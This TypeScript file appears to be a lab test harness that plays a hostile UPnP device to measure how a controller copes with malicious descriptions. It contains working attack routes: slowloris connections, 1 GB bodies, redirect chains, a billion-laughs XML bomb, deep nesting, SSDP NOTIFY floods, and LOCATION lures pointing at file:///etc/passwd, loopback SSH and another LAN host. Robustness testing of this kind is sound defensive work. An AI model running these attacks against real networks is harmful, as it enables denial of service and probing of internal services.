// A device under the attacker's control, run inside a lab host (`node --import tsx evil-device.ts '<plan>'`):
// an HTTP server whose routes are description-fetch attacks (slowloris, a 1 GB body, a redirect chain, XML bombs),
// NOTIFY alive for one UDN per attack (LOCATION on those routes, or on another host), repeated, and a NOTIFY flood
// with a fresh random UDN per datagram. In `victim` mode it only serves and counts connections (the "another
// host" a LOCATION may point at). Prints one JSON line: what each route cost the server side.
import dgram from 'node:dgram';
import http from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { createRandom } from './random.ts';

export const ATTACKS = [
  'slowloris-body',
  'slowloris-headers',
  'huge-body',
  'huge-chunked',
  'redirect-chain',
  'redirect-off-host',
  'billion-laughs',
  'deep-nesting',
  'many-elements',
  'another-host',
  'file-url',
  'loopback-ssh',
] as const;
export type Attack = (typeof ATTACKS)[number];

export interface EvilPlan {
  readonly mode: 'evil' | 'victim';
  readonly address: string;
  readonly httpPort: number;
  /** The victim's address (another host on the LAN). */
  readonly victim: string;
  readonly victimPort: number;
  readonly durationMs: number;
  /** UDN (without uuid:) per attack. */
  readonly uuids: Readonly<Record<Attack, string>>;
  readonly repeatEveryMs: number;
  /** NOTIFY alive with a fresh UDN each, LOCATION on a slowloris route (/flood/<uuid>). */
  readonly floodCount: number;
  readonly floodPerSecond: number;
  /** The flood starts this long after the attacks (so their costs are measured on an idle controller first). */
  readonly floodDelayMs: number;
  readonly seed: number;
}

export interface RouteCost {
  connections: number;
  bytesWritten: number;
  /** Longest time a connection on this route stayed open, ms. */
  longestMs: number;
}

export interface EvilResult {
  readonly routes: Record<string, RouteCost>;
  readonly notifies: number;
  readonly floodSent: number;
  readonly floodUuidsSample: readonly string[];
  readonly startedAt: number;
  /** When each attack's first NOTIFY left (epoch ms). */
  readonly firstNotifyAt: Partial<Record<Attack, number>>;
  readonly floodStartedAt: number;
  readonly floodEndedAt: number;
}

const XML_HEAD = '<?xml version="1.0"?>\n';
const NS = 'urn:schemas-upnp-org:device-1-0';

function billionLaughs(): string {
  let entities = '<!ENTITY lol "lol">';
  for (let i = 1; i <= 9; i += 1) entities += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
  return `${XML_HEAD}<!DOCTYPE root [${entities}]>\n<root xmlns="${NS}"><specVersion><major>1</major><minor>0</minor></specVersion><device><friendlyName>&lol9;</friendlyName></device></root>`;
}

function deepNesting(depth: number): string {
  return `${XML_HEAD}<root xmlns="${NS}">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</root>`;
}

function manyElements(count: number): string {
  return `${XML_HEAD}<root xmlns="${NS}"><specVersion><major>1</major><minor>0</minor></specVersion><device>${'<x/>'.repeat(count)}</device></root>`;
}

export async function runEvil(plan: EvilPlan): Promise<EvilResult> {
  const routes: Record<string, RouteCost> = {};
  const cost = (route: string): RouteCost => (routes[route] ??= { connections: 0, bytesWritten: 0, longestMs: 0 });
  const sockets = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();
  const server = http.createServer((request, response) => {
    const url = request.url ?? '/';
    const route = url.split('/')[1] ?? '';
    const entry = cost(plan.mode === 'victim' ? 'victim' : route);
    entry.connections += 1;
    const opened = Date.now();
    let written = 0;
    const write = (chunk: string | Buffer): boolean => {
      written += chunk.length;
      entry.bytesWritten += chunk.length;
      return response.write(chunk);
    };
    response.on('close', () => {
      entry.longestMs = Math.max(entry.longestMs, Date.now() - opened);
    });
    if (plan.mode === 'victim') {
      response.writeHead(200, { 'content-type': 'text/xml' }).end('<root/>');
      return;
    }
    switch (route) {
      case 'flood':
      case 'slowloris-body': {
        // Headers at once, then one byte every 200 ms, forever.
        response.writeHead(200, { 'content-type': 'text/xml' });
        write(XML_HEAD);
        const timer = setInterval(() => write(' '), 200);
        timers.add(timer);
        response.on('close', () => clearInterval(timer));
        return;
      }
      case 'slowloris-headers':
        // Never answer: the connection stays open until the client gives up.
        return;
      case 'huge-body': {
        // An honest 1 GB Content-Length, and the bytes as fast as the client takes them.
        response.writeHead(200, { 'content-type': 'text/xml', 'content-length': String(1024 ** 3) });
        pump();
        return;
      }
      case 'huge-chunked': {
        // 1 GB without a Content-Length (chunked): only a streamed count can stop it.
        response.writeHead(200, { 'content-type': 'text/xml' });
        pump();
        return;
      }
      case 'redirect-chain': {
        const n = Number(url.split('/')[2] ?? 0);
        response.writeHead(302, { location: `/redirect-chain/${n + 1}` }).end();
        return;
      }
      case 'redirect-off-host':
        response.writeHead(302, { location: `http://${plan.victim}:${plan.victimPort}/description.xml` }).end();
        return;
      case 'billion-laughs':
        response.writeHead(200, { 'content-type': 'text/xml' }).end(billionLaughs());
        return;
      case 'deep-nesting':
        response.writeHead(200, { 'content-type': 'text/xml' }).end(deepNesting(30_000));
        return;
      case 'many-elements':
        response.writeHead(200, { 'content-type': 'text/xml' }).end(manyElements(50_000));
        return;
      default:
        response.writeHead(404).end();
    }

    function pump(): void {
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      const loop = (): void => {
        while (written < 1024 ** 3 && !response.destroyed) {
          if (!write(chunk)) {
            response.once('drain', loop);
            return;
          }
        }
        if (!response.destroyed) response.end();
      };
      loop();
    }
  });
  server.on('connection', (socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) =>
    server.listen(plan.mode === 'victim' ? plan.victimPort : plan.httpPort, plan.address, resolve),
  );
  const port = (server.address() as AddressInfo).port;
  const startedAt = Date.now();
  let notifies = 0;
  let floodSent = 0;
  let floodStartedAt = 0;
  let floodEndedAt = 0;
  const floodUuidsSample: string[] = [];
  const firstNotifyAt: Partial<Record<Attack, number>> = {};

  if (plan.mode === 'evil') {
    const socket = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => socket.bind({ address: plan.address, port: 0 }, resolve));
    socket.setMulticastInterface(plan.address);
    const location = (attack: Attack): string => {
      switch (attack) {
        case 'another-host':
          return `http://${plan.victim}:${plan.victimPort}/description.xml`;
        case 'file-url':
          return 'file:///etc/passwd';
        case 'loopback-ssh':
          return 'http://127.0.0.1:22/';
        default:
          return `http://${plan.address}:${port}/${attack}${attack === 'redirect-chain' ? '/0' : ''}`;
      }
    };
    const notify = (uuid: string, where: string): Buffer =>
      Buffer.from(
        `NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=1800\r\nLOCATION: ${where}\r\nNT: upnp:rootdevice\r\n` +
          `NTS: ssdp:alive\r\nSERVER: Linux/6 UPnP/2.0 evil-device/1.0\r\nUSN: uuid:${uuid}::upnp:rootdevice\r\nBOOTID.UPNP.ORG: 1\r\nCONFIGID.UPNP.ORG: 1\r\n\r\n`,
      );
    const send = (bytes: Buffer): Promise<void> =>
      new Promise((resolve) => socket.send(bytes, 1900, '239.255.255.250', () => resolve()));
    const announceAll = async (): Promise<void> => {
      for (const attack of ATTACKS) {
        await send(notify(plan.uuids[attack], location(attack)));
        firstNotifyAt[attack] ??= Date.now();
        notifies += 1;
      }
    };
    await announceAll();
    const repeat = setInterval(() => void announceAll(), plan.repeatEveryMs);
    timers.add(repeat);
    // The flood: a fresh UDN per NOTIFY, each pointing at a slowloris route of its own.
    const random = createRandom(plan.seed);
    await new Promise((resolve) => setTimeout(resolve, plan.floodDelayMs));
    floodStartedAt = Date.now();
    const perTick = Math.max(1, Math.round(plan.floodPerSecond / 100));
    while (floodSent < plan.floodCount) {
      for (let i = 0; i < perTick && floodSent < plan.floodCount; i += 1) {
        const uuid = random.uuid();
        if (floodUuidsSample.length < 20) floodUuidsSample.push(uuid);
        await send(notify(uuid, `http://${plan.address}:${port}/flood/${uuid}`));
        floodSent += 1;
      }
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    floodEndedAt = Date.now();
    const left = plan.durationMs - (Date.now() - startedAt);
    if (left > 0) await new Promise((resolve) => setTimeout(resolve, left));
    clearInterval(repeat);
    socket.close();
  } else {
    await new Promise((resolve) => setTimeout(resolve, plan.durationMs));
  }
  for (const timer of timers) clearInterval(timer);
  for (const socket of sockets) socket.destroy();
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return { routes, notifies, floodSent, floodUuidsSample, startedAt, firstNotifyAt, floodStartedAt, floodEndedAt };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const plan = JSON.parse(process.argv[2] ?? '{}') as EvilPlan;
  process.stdout.write(`${JSON.stringify(await runEvil(plan))}\n`);
}
